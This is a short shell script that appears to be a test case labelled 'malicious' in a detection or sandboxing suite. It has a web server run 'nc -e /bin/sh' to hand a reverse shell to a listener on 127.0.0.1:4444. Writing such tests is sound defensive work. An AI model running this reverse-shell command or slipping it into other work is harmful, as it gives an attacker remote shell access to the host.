#!/bin/sh
# malicious: a web server shell uses nc -e to hand a shell to a listener on 127.0.0.1:4444 (reverse shell with the same tool)
. "$(dirname "$0")/../../lib.sh"
$B/httpd "$B/nc -e /bin/sh 127.0.0.1 4444"
